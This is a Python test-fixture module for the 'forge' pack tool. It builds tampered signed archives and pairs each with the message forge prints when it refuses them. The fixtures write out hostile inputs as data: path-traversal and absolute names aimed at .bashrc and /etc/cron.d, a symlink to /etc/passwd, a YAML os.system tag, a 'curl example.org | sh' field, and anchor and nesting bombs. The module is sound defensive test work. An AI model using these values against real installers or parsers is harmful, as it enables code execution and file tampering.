"""Packs that somebody has tampered with, and what forge says of each. docs/security.md shows this table."""

from __future__ import annotations

import gzip
import io
import tarfile
from collections.abc import Callable
from dataclasses import dataclass

from forge.spec.pack_format import MANIFEST, SIGNATURE, decode, encode
from forge.spec.pack_manifest import json_bytes, make_manifest
from tests.recipes.kit import EVIDENCE, RECIPES, Kit

NAME = "acme-1.2.0.forge"
Make = Callable[[Kit, dict[str, bytes]], bytes]


@dataclass(frozen=True)
class Case:
    """One way to tamper."""

    name: str
    says: str
    """A part of the one line that refuses it."""
    make: Make
    """From a kit and the files of a good pack to the bytes of a bad one; the kit may be prepared too."""
    file_name: str = NAME


CASES: list[Case] = []


def tamper(name: str, says: str, file_name: str = NAME) -> Callable[[Make], Make]:
    """Add a case."""

    def add(make: Make) -> Make:
        CASES.append(Case(name, says, make, file_name))
        return make

    return add


def _tar(*entries: tuple[tarfile.TarInfo, bytes], form: int = tarfile.USTAR_FORMAT) -> bytes:
    """Return what another program would make of these entries."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=form) as tar:
        for info, content in entries:
            info.size = len(content)
            tar.addfile(info, io.BytesIO(content))
    return out.getvalue()


def _with_entry(good: dict[str, bytes], name: str, kind: bytes = tarfile.REGTYPE, link: str = "") -> bytes:
    """Return a good pack with one more entry before its end."""
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.mode = kind, link, 0o644
    return encode(good)[:-1024] + info.tobuf(tarfile.USTAR_FORMAT) + bytes(1024)


def _entry(name: str) -> bytes:
    """Return the entry of an empty file, as forge writes it."""
    return encode({name: b""})[:-1024]


def _signed(kit: Kit, changes: dict[str, bytes], key: str = "maker", version: str = "1.2.0") -> bytes:
    return encode(kit.members({**RECIPES, **changes}, key=key, version=version))


def _other_manifest(kit: Kit, change: Callable[[dict[str, object]], object]) -> bytes:
    """Return a pack whose manifest says something else, signed by the known key."""
    import json

    value = json.loads(make_manifest("acme", "1.2.0", RECIPES))
    change(value)
    return encode(kit.members(manifest=json_bytes(value)))


# What is inside was changed after it was signed.


@tamper("a recipe was changed", "is not the file that the manifest names")
def _(kit: Kit, good: dict[str, bytes]) -> bytes:
    return encode(good | {"recipes/legal.yaml": good["recipes/legal.yaml"].replace(b"7", b"8")})


@tamper("a recipe and its hash in the manifest were changed", "its signature is not over this manifest")
def _(kit: Kit, good: dict[str, bytes]) -> bytes:
    changed = {**RECIPES, "recipes/legal.yaml": b"seed: 666\n"}
    return encode({**good, **changed, MANIFEST: make_manifest("acme", "1.2.0", changed)})


@tamper("the signature was changed", "its signature is not over this manifest")
def _(kit: Kit, good: dict[str, bytes]) -> bytes:
    lines = good[SIGNATURE].splitlines(keepends=True)
    lines[-2] = lines[-2][:4] + (b"A" if lines[-2][4:5] != b"A" else b"B") + lines[-2][5:]
    return encode(good | {SIGNATURE: b"".join(lines)})


@tamper("the signature is of another pack", "its signature is not over this manifest")
def _(kit: Kit, good: dict[str, bytes]) -> bytes:
    return encode(good | {SIGNATURE: kit.members(version="1.1.0")[SIGNATURE]})


@tamper("the signature is no signature", "its signature is no SSH signature")
def _(kit: Kit, good: dict[str, bytes]) -> bytes:
    return encode(good | {SIGNATURE: b"trust me\n"})


@tamper("a file was added", "is in the pack and not in its manifest")
def _(kit: Kit, good: dict[str, bytes]) -> bytes:
    return encode(good | {"recipes/more.yaml": b"seed: 1\n"})


@tamper("a file was taken out", "is in the manifest and not in the pack")
def _(kit: Kit, good: dict[str, bytes]) -> bytes:
    return encode({name: content for name, content in good.items() if name != "recipes/base.yaml"})


# Who signed it.


@tamper("it is not signed", "is not signed: ask for a signed one")
def _(kit: Kit, good: dict[str, bytes]) -> bytes:
    return encode({name: content for name, content in good.items() if name != SIGNATURE})


@tamper("a stranger signed it", "is signed with a key that")
def _(kit: Kit, good: dict[str, bytes]) -> bytes:
    return _signed(kit, {}, key="stranger")


@tamper("the right key signed it for something else", "its signature is for 'git', not for 'forge-pack'")
def _(kit: Kit, good: dict[str, bytes]) -> bytes:
    return encode(good | {SIGNATURE: kit.sign(good[MANIFEST], "maker", namespace="git")})


@tamper("the key is known for something else", "is signed with a key that")
def _(kit: Kit, good: dict[str, bytes]) -> bytes:
    kit.know("committer", 'namespaces="git"')
    return _signed(kit, {}, key="committer")


@tamper("the key was known until 2020", "is signed with a key that")
def _(kit: Kit, good: dict[str, bytes]) -> bytes:
    kit.know("former", 'namespaces="forge-pack",valid-before="20200101"')
    return _signed(kit, {}, key="former")


@tamper("another known key signed the next version", "which is installed, is signed with SHA256:")
def _(kit: Kit, good: dict[str, bytes]) -> bytes:
    kit.install(kit.write("acme-1.1.0.forge", kit.members(version="1.1.0")))
    kit.know("colleague")
    return _signed(kit, {}, key="colleague")


# The file.


@tamper("a file is there twice", "holds recipes/legal.yaml twice")
def _(kit: Kit, good: dict[str, bytes]) -> bytes:
    return encode(good)[:-1024] + _entry("recipes/legal.yaml") + bytes(1024)


@tamper("two names differ in case", "holds recipes/LEGAL.yaml twice")
def _(kit: Kit, good: dict[str, bytes]) -> bytes:
    return encode(good)[:-1024] + _entry("recipes/LEGAL.yaml") + bytes(1024)


@tamper("a name climbs out", "leads out of the pack")
def _(kit: Kit, good: dict[str, bytes]) -> bytes:
    return _with_entry(good, "recipes/../../../.bashrc")


@tamper("a name is absolute", "leads out of the pack")
def _(kit: Kit, good: dict[str, bytes]) -> bytes:
    return _with_entry(good, "/etc/cron.d/forge")


@tamper("a name would act on a terminal", "is no file of a pack")
def _(kit: Kit, good: dict[str, bytes]) -> bytes:
    return _with_entry(good, "recipes/\x1b[2Jx.yaml")


@tamper("a symbolic link", "is a symbolic link")
def _(kit: Kit, good: dict[str, bytes]) -> bytes:
    return _with_entry(good, "recipes/x.yaml", tarfile.SYMTYPE, "/etc/passwd")


@tamper("a hard link", "is a hard link")
def _(kit: Kit, good: dict[str, bytes]) -> bytes:
    return _with_entry(good, "recipes/x.yaml", tarfile.LNKTYPE, "recipes/legal.yaml")


@tamper("a device", "is a device")
def _(kit: Kit, good: dict[str, bytes]) -> bytes:
    return _with_entry(good, "recipes/x.yaml", tarfile.BLKTYPE)


@tamper("a pipe", "is a pipe")
def _(kit: Kit, good: dict[str, bytes]) -> bytes:
    return _with_entry(good, "recipes/x.yaml", tarfile.FIFOTYPE)


@tamper("a folder", "is a folder")
def _(kit: Kit, good: dict[str, bytes]) -> bytes:
    return _with_entry(good, "recipes/x.yaml", tarfile.DIRTYPE)


@tamper("a file of 8 GiB in a few bytes", "says it is 8,589,934,591 bytes")
def _(kit: Kit, good: dict[str, bytes]) -> bytes:
    header = bytearray(_entry("recipes/x.yaml"))
    header[124:136], header[148:156] = b"77777777777\0", b" " * 8
    header[148:156] = b"%06o\0 " % sum(header)
    return encode(good)[:-1024] + bytes(header) + bytes(1024)


@tamper("a sparse file", "is a sparse file")
def _(kit: Kit, good: dict[str, bytes]) -> bytes:
    return _with_entry(good, "recipes/x.yaml", tarfile.GNUTYPE_SPARSE)


@tamper("an extended header renames a file", "has an entry of type b'x'")
def _(kit: Kit, good: dict[str, bytes]) -> bytes:
    info = tarfile.TarInfo(MANIFEST)
    info.pax_headers = {"path": "/etc/cron.d/forge"}
    return _tar((info, good[MANIFEST]), form=tarfile.PAX_FORMAT)


@tamper("another program packed the same files again", "that `forge recipe pack` does not write")
def _(kit: Kit, good: dict[str, bytes]) -> bytes:
    return _tar(*((tarfile.TarInfo(name), content) for name, content in good.items()))


@tamper("it is compressed", "is compressed (gzip)")
def _(kit: Kit, good: dict[str, bytes]) -> bytes:
    return gzip.compress(encode(good))


@tamper("something follows its end", "bytes after its end")
def _(kit: Kit, good: dict[str, bytes]) -> bytes:
    return encode(good) + b"#!/bin/sh\n"


@tamper("it was cut short", "has no end: fetch it again")
def _(kit: Kit, good: dict[str, bytes]) -> bytes:
    return encode(good)[:-1024]


@tamper("something hides between its files", "is not in the form that `forge recipe pack` writes")
def _(kit: Kit, good: dict[str, bytes]) -> bytes:
    content = bytearray(encode(good))
    assert content[-1025] == 0
    content[-1025] = 7
    return bytes(content)


@tamper("it is larger than a pack can be", "is larger than 8 MiB")
def _(kit: Kit, good: dict[str, bytes]) -> bytes:
    return encode(good) + bytes(8 * 1024**2)


@tamper("it holds a program", "is no file of a pack")
def _(kit: Kit, good: dict[str, bytes]) -> bytes:
    return _with_entry(good, "recipes/setup.py")


# The manifest, signed by a key that is known.


@tamper("its name says another version", "holds acme 1.2.0: it is not what its name says", "acme-1.3.0.forge")
def _(kit: Kit, good: dict[str, bytes]) -> bytes:
    return encode(good)


@tamper("its name says another pack", "holds acme 1.2.0: it is not what its name says", "other-1.2.0.forge")
def _(kit: Kit, good: dict[str, bytes]) -> bytes:
    return encode(good)


@tamper("it is called like a recipe of forge", "is the name of a recipe of forge", "legal_7b-1.2.0.forge")
def _(kit: Kit, good: dict[str, bytes]) -> bytes:
    return encode(kit.members({"recipes/x.yaml": b"seed: 1\n"}, name="legal_7b"))


@tamper("its name is a path", "name: must be small letters, digits, - and _")
def _(kit: Kit, good: dict[str, bytes]) -> bytes:
    return _other_manifest(kit, lambda value: value.update(name="../../evil"))


@tamper("its manifest says more than it may", "Additional properties are not allowed")
def _(kit: Kit, good: dict[str, bytes]) -> bytes:
    return _other_manifest(kit, lambda value: value.update(run="curl example.org | sh"))


@tamper("its manifest says a key twice", "is not in the form that forge writes")
def _(kit: Kit, good: dict[str, bytes]) -> bytes:
    manifest = good[MANIFEST].replace(b'"version"', b'"version": "9.9.9",\n  "version"', 1)
    return encode(kit.members(manifest=manifest))


@tamper("its manifest is nested without end", "is nested without end")
def _(kit: Kit, good: dict[str, bytes]) -> bytes:
    return encode(kit.members(manifest=b"[" * 100_000 + b"]" * 100_000))


@tamper("it is for another forge", "is for forge 99.0.0 and later, below 100.0.0")
def _(kit: Kit, good: dict[str, bytes]) -> bytes:
    return _other_manifest(kit, lambda value: value.update(forge={"from": "99.0.0", "below": "100.0.0"}))


# What it says, signed by a key that is known.


@tamper("a recipe reads the environment", "only plain references like ${train.tokens} are allowed")
def _(kit: Kit, good: dict[str, bytes]) -> bytes:
    return _signed(kit, {"recipes/legal.yaml": b"name: ${oc.env:HOME}\n"})


@tamper("a recipe runs code when it is read", "tags are not allowed")
def _(kit: Kit, good: dict[str, bytes]) -> bytes:
    return _signed(kit, {"recipes/legal.yaml": b"name: !!python/object/apply:os.system [id]\n"})


@tamper("a part that no recipe uses is a bomb", "anchors are not allowed")
def _(kit: Kit, good: dict[str, bytes]) -> bytes:
    return _signed(kit, {"recipes/_part.yaml": b"name: &a [x, x]\nseed: [*a, *a]\n"})


@tamper("a recipe climbs out", "only names of recipes and options stand here")
def _(kit: Kit, good: dict[str, bytes]) -> bytes:
    return _signed(kit, {"recipes/legal.yaml": b"defaults:\n  - ../../../secret\n"})


@tamper("a recipe writes elsewhere", "output_dir: may be set on the command line or in one's own conf")
def _(kit: Kit, good: dict[str, bytes]) -> bytes:
    return _signed(kit, {"recipes/legal.yaml": b"output_dir: /etc\n"})


@tamper("an option writes elsewhere", "model.init_from: may be set on the command line or in one's own conf")
def _(kit: Kit, good: dict[str, bytes]) -> bytes:
    return _signed(kit, {"conf/model/small.yaml": b"defaults:\n  - /model/llama_3m\ninit_from: /etc\n"})


@tamper("an option sets hardware", "acme/conf/hardware: is no group that a pack has options of")
def _(kit: Kit, good: dict[str, bytes]) -> bytes:
    return _signed(kit, {"conf/hardware/big.yaml": b"defaults:\n  - /hardware/cpu\n"})


@tamper("evidence carries a path", "evidence/legal-1.json: recipe: must be the name of a recipe")
def _(kit: Kit, good: dict[str, bytes]) -> bytes:
    return _signed(kit, {"evidence/legal-1.json": json_bytes(EVIDENCE | {"recipe": "/home/ann/secret"})})


@tamper("evidence is of a recipe that is not there", "has evidence of other, which is no recipe of it")
def _(kit: Kit, good: dict[str, bytes]) -> bytes:
    return _signed(kit, {"evidence/legal-1.json": json_bytes(EVIDENCE | {"recipe": "other"})})


# forge.lock.


@tamper("an older version than forge.lock pins", "is older than 1.3.0, which forge.lock pins")
def _(kit: Kit, good: dict[str, bytes]) -> bytes:
    kit.lock("1.3.0", "0" * 64)
    return encode(good)


@tamper("other content than forge.lock pins", "and forge.lock pins 000000000000")
def _(kit: Kit, good: dict[str, bytes]) -> bytes:
    kit.lock("1.2.0", "0" * 64)
    return encode(good)


@tamper("other content under an installed version", "is installed with other content")
def _(kit: Kit, good: dict[str, bytes]) -> bytes:
    kit.install(kit.write("first.forge", good))
    return _signed(kit, {"recipes/legal.yaml": b"# Another.\ndefaults:\n  - base\n\nname: legal\nseed: 8\n"})


@tamper("forge.lock is no lock", "forge.lock: is not JSON")
def _(kit: Kit, good: dict[str, bytes]) -> bytes:
    (kit.project / "forge.lock").write_text("acme==1.2.0\n")
    assert decode(encode(good), NAME) == good
    return encode(good)
